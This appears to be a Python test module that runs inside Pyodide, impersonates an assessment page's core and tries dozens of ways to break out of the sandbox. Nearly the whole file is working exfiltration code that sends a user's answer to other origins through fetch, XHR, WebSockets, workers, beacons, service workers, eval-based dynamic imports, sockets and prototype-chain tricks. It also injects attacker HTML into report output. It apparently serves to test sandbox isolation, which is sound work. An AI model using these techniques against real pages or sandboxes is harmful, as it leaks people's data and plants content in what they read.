"""Runs inside Pyodide in the place of `prepared`: a program that wants to tell others what the person answered, and tries every way out that it knows.

It stands before the real core and answers like it, so that the page goes on; what it tried is told as a score's CSV.
`attack.json` beside it has `{"other": an origin, "own": an origin, "far": an origin that only a proxy would see, "word": what it wants to get out, "html": what it puts into a report}`.
"""

import asyncio
import json

import js
import prepared_first  # noqa: F401 (what the real core needs first)
import pyodide_js
from assessment.core import api
from pyodide.ffi import create_proxy, to_js

PLAN = json.loads(__loader__.get_data(f"{__loader__.archive}/attack.json"))  # noqa: F821 (the loader of this zip)
WORD = PLAN["word"]
TRIED = {}
answered = api.call


class Later:
    """What a promise of JavaScript becomes in Python: the engine has no event loop, so the attacker brings one."""

    then = staticmethod(lambda value: None)

    def set_result(self, value):
        self.then(value)

    def __getattr__(self, name):
        return lambda *args, **more: Later()


for name in ("get_event_loop", "get_running_loop", "_get_running_loop", "new_event_loop", "ensure_future", "create_task", "Future"):
    setattr(asyncio, name, lambda *args, **more: Later())


def wait_for(later, then):
    """Go on with what a promise will give."""
    later.then = then
    return later


def targets(name):
    """The addresses that would tell: of another origin, of the own one with a query, of one that is far."""
    return [f"{PLAN[where]}/{where}-{name}?answer={WORD}" for where in ("other", "own", "far")]


def attempt(name, action):
    """Try one way with each address and note what came of it; what it gives may be a promise, which nobody waits for."""
    for address in targets(name):
        try:
            given = action(address)
            told = f"gave {type(given).__name__}"
        except BaseException as wrong:  # noqa: BLE001 (whatever it is: go on)
            told = f"{type(wrong).__name__}: {str(wrong)[:120]}"
        TRIED.setdefault(name, []).append(told)


QUIET = create_proxy(lambda *_: None)


def obj(**more):
    """An object of JavaScript."""
    return to_js(more, dict_converter=js.Object.fromEntries)


def xhr(address):
    one = js.XMLHttpRequest.new()
    one.open("POST", address, False)
    one.send(WORD)


def blob(text):
    return js.URL.createObjectURL(js.Blob.new(to_js([text]), obj(type="text/javascript")))


def nested(address):
    return js.Worker.new(blob(f"fetch({address!r}); import({address!r}); new WebSocket({address!r})"), obj(type="module"))


def bucket(address):
    def opened(one):
        TRIED["storage-bucket"].append("opened")
        wait_for(one.caches.open("touchstone:x"), lambda cache: cache.add(address))

    return wait_for(js.navigator.storageBuckets.open("touchstone"), opened)


def cached(address):
    return wait_for(js.caches.open("touchstone:x"), lambda cache: cache.add(address))


def lazily(address):
    node = pyodide_js.FS.createLazyFile("/", f"lazy{abs(hash(address))}", address, True, False)
    return pyodide_js.FS.forceLoadFile(node)  # reading it from Python would only break the engine


def socketed(address):
    import _socket

    one = _socket.socket()
    one.connect((address.split("/")[2].split(":")[0], int(address.split("/")[2].partition(":")[2] or 80)))
    one.send(WORD.encode())


def constructor_of(function):
    return js.Reflect.get(js.Reflect.getPrototypeOf(function), "constructor")


def fetched_by(scope, address):
    return js.Reflect.apply(js.Reflect.get(scope, "fetch"), js.globalThis, to_js([address]))


def up_the_chain(address):
    """Each `fetch`, `importScripts`, `Worker` or `WebSocket` that any prototype of the worker's global object still has."""
    holder, found = js.globalThis, []
    while holder:  # the null of JavaScript is none of Python's
        for name in js.Object.getOwnPropertyNames(holder):
            if name in ("fetch", "importScripts", "Worker", "SharedWorker", "WebSocket", "EventSource", "XMLHttpRequest"):
                value = js.Reflect.get(holder, name, js.globalThis)
                if not value:
                    continue
                found.append(name)
                try:
                    js.Reflect.apply(value, js.globalThis, to_js([address]))
                except BaseException:  # noqa: BLE001
                    js.Reflect.construct(value, to_js([address]))
        holder = js.Object.getPrototypeOf(holder)
    return found


def restored(address):
    js.Reflect.deleteProperty(js.globalThis, "fetch")
    js.Reflect.defineProperty(js.globalThis, "fetch", obj(value=None, configurable=True))
    js.Reflect.deleteProperty(js.globalThis, "fetch")
    return js.fetch(address)


def everything_that_loads(address):
    """Each function of Pyodide's and Emscripten's own objects whose name sounds of loading, with the address as its arguments."""
    called = []
    for holder in (pyodide_js, pyodide_js._api, pyodide_js._module, pyodide_js.FS, pyodide_js.PATH if hasattr(pyodide_js, "PATH") else pyodide_js):
        for name in js.Object.getOwnPropertyNames(holder):
            if any(sign in name.lower() for sign in ("load", "fetch", "import", "dynlib", "lazy", "install")) and not name.startswith(("_", "fatal")):  # those would only end the program
                try:
                    js.Reflect.apply(js.Reflect.get(holder, name), holder, to_js([address, address]))
                    called.append(name)
                except BaseException:  # noqa: BLE001
                    pass
    return called


WAYS = {
    "fetch": lambda a: js.fetch(a),
    "fetch-post": lambda a: js.fetch(a, obj(method="POST", body=WORD, mode="no-cors", keepalive=True)),
    "xhr": xhr,
    "websocket": lambda a: js.WebSocket.new(a.replace("http", "ws", 1)),
    "websocketstream": lambda a: js.WebSocketStream.new(a.replace("http", "ws", 1)),
    "eventsource": lambda a: js.EventSource.new(a),
    "webtransport": lambda a: js.WebTransport.new(a.replace("http:", "https:")),
    "worker-blob": nested,
    "worker-url": lambda a: js.Worker.new(a, obj(type="module")),
    "worker-own-file": lambda a: js.Worker.new(f"{PLAN['own']}/own-worker.js?{WORD}"),
    "sharedworker": lambda a: js.SharedWorker.new(a),
    "importscripts": lambda a: js.importScripts(a),
    "beacon": lambda a: js.navigator.sendBeacon(a, WORD),
    "serviceworker": lambda a: js.navigator.serviceWorker.register(a),
    "storage-bucket": bucket,
    "cache": cached,
    "fontface": lambda a: js.FontFace.new("x", f"url({a})").load(),
    "fontset": lambda a: js.fonts.load("1em x"),
    "notification": lambda a: js.Notification.new(WORD, obj(icon=a, image=a)),
    "rtc": lambda a: js.RTCPeerConnection.new(obj(iceServers=to_js([obj(urls=f"stun:{a.split('/')[2]}")]))),
    "location": lambda a: setattr(js, "location", a),
    "location-href": lambda a: setattr(js.location, "href", a),
    "eval-import": lambda a: js.eval(f"import({a!r})"),
    "function-import": lambda a: js.Function.new(f"return import({a!r})")(),
    "async-function-import": lambda a: constructor_of(pyodide_js.loadPackage).new(f"return import({a!r})")(),
    "constructor-import": lambda a: js.Reflect.construct(js.Object.constructor, to_js([f"return import({a!r})"]))(),
    "timeout-import": lambda a: js.setTimeout(f"import({a!r})", 0),
    "interval-import": lambda a: js.setInterval(f"import({a!r})", 1000),
    "run-js": lambda a: __import__("pyodide.code", fromlist=["run_js"]).run_js(f"import({a!r})"),
    "compile-streaming": lambda a: js.WebAssembly.compileStreaming(js.fetch(a)),
    "load-package": lambda a: pyodide_js.loadPackage(a.replace("?", "/x-1.0-py3-none-any.whl?")),
    "lazy-file": lazily,
    "preloaded-file": lambda a: pyodide_js.FS.createPreloadedFile("/", "preloaded", a, True, False),
    "python-socket": socketed,
    "chain": up_the_chain,
    "restored-fetch": restored,
    "hidden-fetch": lambda a: fetched_by(js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.globalThis)), a),
    "whatever-loads": everything_that_loads,
    "filesystem": lambda a: js.webkitRequestFileSystem(0, 1024, QUIET),
    "indexeddb": lambda a: js.indexedDB.open(WORD),
    "private-files": lambda a: js.navigator.storage.getDirectory(),
    "broadcast": lambda a: js.BroadcastChannel.new("touchstone:x").postMessage(WORD),
    "message-to-the-page": lambda a: js.postMessage(obj(state="imported", id=WORD, part=a, text="{}", url=a, href=a)),
    "message-no-json": lambda a: js.postMessage(obj(id=-1, text=a)),
}


def all_ways():
    """Try them all."""
    for name, action in WAYS.items():
        attempt(name, action)


def call(text):
    """The real answer, with what no page should show in it."""
    asked = json.loads(text)
    if asked.get("do") == "report":
        all_ways()
    answer = json.loads(answered(text))
    if asked.get("do") in ("report", "explain") and isinstance(answer.get("result"), dict) and "html" in answer["result"]:
        answer["result"]["html"] = PLAN["html"] + answer["result"]["html"] + PLAN["html"]
        answer["result"]["sentence"] = answer["result"].get("sentence", "") + PLAN["html"]
        answer["result"]["mail"] = PLAN["html"]
    if asked.get("do") == "score" and asked.get("as") == "csv":
        answer["result"] = json.dumps(TRIED)
    return json.dumps(answer)


all_ways()  # while the real core is not imported yet, and the worker has not finished
api.call = call
